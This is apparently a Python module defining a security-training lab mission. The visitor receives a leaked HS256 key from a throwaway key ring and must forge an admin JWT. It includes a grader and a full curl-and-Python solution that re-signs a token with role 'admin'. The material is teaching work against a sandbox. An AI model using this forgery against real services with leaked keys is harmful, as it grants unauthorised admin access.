"""A signing key that leaked: a sacrificial ring, whose secrets may be shown."""

from flask_babel import gettext
from flask_babel import lazy_gettext as _

from lab.pages.missions.ground import Ground
from lab.pages.missions.mission import CURL_AND_PYTHON, Begun, Mission, Part, Verdict, answer
from lab.sacrificial_ring.tokens import admit, issuer_of
from lab.trials import Kept
from service.config import DAY_S
from service.errors import BearerError
from service.web.fields import Fields


def begin(ground: Ground) -> Begun:
    """Make a sacrificial ring of the visitor's own, and give its secret away."""
    ring_id, ring = ground.rings.create(DAY_S)
    key = ring.active
    given = {
        "RING": f"$LAB/sacrifice/{ring_id}",
        "ISSUER": issuer_of(ring_id),
        "KID": key.kid,
        "SECRET": key.jwk["k"],
    }
    return Begun({"ring": ring_id}, given)


def judge(ground: Ground, kept: Kept, fields: Fields) -> Verdict:
    """Verify the token as the ring does. The ring issues the role user only, so an admin's token is forged."""
    token, ring_id = answer(fields, "token"), kept["ring"]
    try:
        claims = admit(ground.rings.find(ring_id), issuer_of(ring_id), token, ground.now())
    except BearerError as error:
        return Verdict(False, gettext("The ring refuses this token: %(why)s", why=error.detail or error.title))
    if claims.role != "admin":
        return Verdict(
            False, gettext("The ring accepts this token, but its role is user. Sign one with the role admin.")
        )
    return Verdict(
        True,
        gettext(
            "The ring accepts %(name)s as an admin, although it never gave this role. Anyone who has the key can"
            " sign for every user, until the key is revoked.",
            name=claims.sub,
        ),
    )


LEAKED_KEY = Mission(
    slug="leaked-key",
    approach=None,
    minutes=10,
    title=_("Sign a token with a leaked key"),
    goal=_("Make a token with the role admin that a sacrificial key ring accepts."),
    who=_("You have found a signing key in a public repository: its kid and its secret in base64url (HS256)."),
    tool=CURL_AND_PYTHON,
    hints=(
        _("POST $RING/tokens with a username issues a token of this ring, with the role user. Read its claims."),
        _("HS256 is HMAC-SHA-256 over header, dot and payload. Its key is the secret, decoded from base64url."),
        _("The token needs iss, sub, role, iat and exp. It may live for a day, and its header needs alg and kid."),
    ),
    solution=(
        Part(
            _("Get a token of the ring, change its role, sign it again, and try it at the admin page."),
            """\
REAL=$(curl -s "$RING/tokens" -H 'Content-Type: application/json' -d '{"username": "mallory"}' |
  python3 -c 'import json, sys; print(json.load(sys.stdin)["token"])')
TOKEN=$(python3 - "$REAL" "$SECRET" <<'END'
import base64, hashlib, hmac, json, sys

def decode(text):
    return base64.urlsafe_b64decode(text + "==")

def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

token, secret = sys.argv[1:]
header, payload, _ = token.split(".")
claims = {**json.loads(decode(payload)), "role": "admin"}
signed = header + "." + encode(json.dumps(claims).encode())
print(signed, encode(hmac.digest(decode(secret), signed.encode(), hashlib.sha256)), sep=".")
END
)
curl -s -H "Authorization: Bearer $TOKEN" "$RING/admin"
echo "token: $TOKEN\"""",
        ),
    ),
    walk="/keys#stolen",
    begin=begin,
    judge=judge,
    answers={"token": _("Your token")},
    unsafe=True,
)
